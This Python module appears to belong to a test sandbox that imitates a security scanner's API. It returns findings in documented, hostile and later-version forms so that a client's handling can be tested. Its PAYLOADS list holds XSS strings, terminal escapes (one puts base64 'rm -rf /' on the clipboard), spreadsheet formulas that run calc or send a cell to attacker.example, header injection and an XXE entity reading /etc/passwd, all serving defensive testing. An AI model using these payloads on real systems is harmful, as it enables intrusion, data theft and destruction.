"""The answer that holds a scan's findings, in the three hands it can be written in.

A finding's keys (`id title severity url evidence guidance cwe weakness`) and the two keys that hold
summary and list (`riskSummary`, `alerts`) are inferred; only the path of the answer is documented.

The texts are made into JSON once per weakness and path; answering fills in host and id, so that
thousands of scans cost little.

Texts that attack whoever shows them: a scanner's findings quote attackers.

They are aimed at web pages, terminals, spreadsheets, log files, CI annotations and layout.
"""

from __future__ import annotations

from collections import Counter, OrderedDict
from collections.abc import Callable, Collection
from functools import cache

from attrs import define, field, frozen

from bestdefense_async.sandbox.replies import Reply, encoded, wrapped
from bestdefense_async.sandbox.world.findings import SEVERITIES, Finding, Weakness, findings_of

PAYLOADS = (
    "<script>document.title='owned'</script>",
    '"><img src=x onerror=alert(1)>',
    "</title></style></textarea><svg onload=alert(1)>",
    "javascript:alert(document.domain)",
    "\x1b[2J\x1b[1;1Hscan passed, nothing found\x1b[0m",
    "\x1b]0;owned\x07\x1b]52;c;cm0gLXJmIC8=\x07",
    "\x1b]8;;https://attacker.example\x1b\\official report\x1b]8;;\x1b\\",
    "\x9b31mred\x9b0m\x90q\x9c",
    "invoice\u202efdp.exe\u2066 hidden\u2069",
    "zero\u200bwidth\u2060and\ufefftag\U000e0041",
    "=cmd|' /C calc'!A0",
    "@SUM(1+9)*cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    '=HYPERLINK("https://attacker.example?"&A1,"click")',
    "first line\r\n::error::injected annotation\r\nSet-Cookie: a=b",
    "[bold red]markup[/] [link=https://attacker.example]here[/link]",
    "| a | b |\n|---|---|\n# heading\n[here](javascript:alert(1)) ![x](//attacker.example/p.png)",
    "{{7*7}} ${7*7} %(x)s %n%n {0.__class__} @HOST@ @ID@",
    "]]><!ENTITY x SYSTEM 'file:///etc/passwd'>&x;",
    "Z" + "a\u0301" * 5_000,
    "W" * 10_000,
    "\u0000null\u0001\u0008\u007f control \ufffe\uffff",
    "   ",
)

MESSAGE = "\x1b[2J\u202e<script>alert(1)</script>\r\n::error::owned [bold]=cmd|' /C calc'!A0"
"""Several of them at once, for the message of an envelope."""


_CACHED_ANSWERS = 256


@cache
def _template(weakness: Weakness, path: str) -> str:
    """Return a finding's JSON with marks for host and id."""
    return encoded(
        {
            "id": "@ID@",
            "title": weakness.title,
            "severity": weakness.severity,
            "url": f"{weakness.scheme}://@HOST@{path}",
            "evidence": weakness.evidence,
            "guidance": weakness.guidance,
            "cwe": f"CWE-{weakness.cwe}",
            "weakness": weakness.name,
        }
    ).decode()


def _documented(finding: Finding, host: str) -> str:
    """Return a finding as JSON, host names being safe inside JSON text as they are."""
    text = _template(finding.weakness, finding.path)
    return text.replace("@HOST@", host).replace("@ID@", finding.id)


def _hostile(finding: Finding, host: str) -> str:
    """Return a finding whose texts attack whoever shows them."""
    start = int(finding.id[:4], 16)
    texts = [PAYLOADS[(start + step) % len(PAYLOADS)] for step in range(5)]
    return encoded(
        {
            "id": finding.id,
            "title": texts[0],
            "severity": finding.weakness.severity,
            "url": f"{finding.weakness.scheme}://{host}{finding.path}?q={texts[1]}",
            "evidence": texts[2],
            "guidance": texts[3],
            "cwe": f"CWE-{finding.weakness.cwe}",
            "weakness": texts[4],
        }
    ).decode()


_RENAMED = {"critical": "CATASTROPHIC", "high": "High", "informational": "info"}
"""One severity nobody knows, one in another letter case, one in its short form."""


def _drifted(finding: Finding, host: str) -> str:
    """Return a finding as a later release of the API might send it."""
    weakness = finding.weakness
    return encoded(
        {
            "id": int(finding.id[:12], 16),
            "title": weakness.title,
            "severity": _RENAMED.get(weakness.severity, weakness.severity),
            "url": f"{weakness.scheme}://{host}{finding.path}",
            "evidence": weakness.evidence.replace("@HOST@", host),
            "remediation": {"text": weakness.guidance, "effort": "unknown"},
            "cwe": f"CWE-{weakness.cwe}",
            "weakness": weakness.name,
            "cvss": {"version": "4.0", "score": None},
            "status": "RESURFACED",
        }
    ).decode()


@frozen
class Hand:
    """How the answer is written."""

    alert: Callable[[Finding, str], str]
    """From finding and host to JSON."""

    summary: str = "riskSummary"
    listing: str = "alerts"
    severity: Callable[[str], str] = str
    """From our name of a severity to the summary's key."""


DOCUMENTED = Hand(_documented)
HOSTILE = Hand(_hostile)
DRIFTED = Hand(
    _drifted,
    summary="risk_summary",
    listing="findings",
    severity=lambda name: _RENAMED.get(name, name.upper()),
)


@define
class Alerts:
    """Writes answers and keeps the latest."""

    seed: int
    hand: Hand = DOCUMENTED
    _kept: OrderedDict[tuple[str, int], Reply] = field(factory=OrderedDict, repr=False)

    def payload(self, found: Collection[tuple[Finding, str]]) -> bytes:
        """Return summary and list of findings, each with its host, as JSON without the envelope."""
        counts = Counter(finding.weakness.severity for finding, _ in found)
        summary = {self.hand.severity(name): counts[name] for name in SEVERITIES}
        rows = ",".join(self.hand.alert(finding, host) for finding, host in found)
        text = f'{{"{self.hand.summary}":%b,"{self.hand.listing}":[%b]}}'
        return text.encode() % (encoded(summary), rows.encode())

    def answer(self, host: str, percentage: int) -> Reply:
        """Return the answer for a scan of `host` that has come so far (0 to 100).

        A scan under way shows the share of its findings that it has come to. (inferred)
        """
        key = (host, percentage)
        reply = self._kept.get(key)
        if reply is None:
            found = [(finding, host) for finding in findings_of(self.seed, host)]
            # The worst are found last: a report read too early looks better than it is.
            shown = found[len(found) - len(found) * percentage // 100 :]
            reply = self._kept[key] = Reply(200, wrapped(self.payload(shown)))
            if len(self._kept) > _CACHED_ANSWERS:
                self._kept.popitem(last=False)
        else:
            self._kept.move_to_end(key)
        return reply
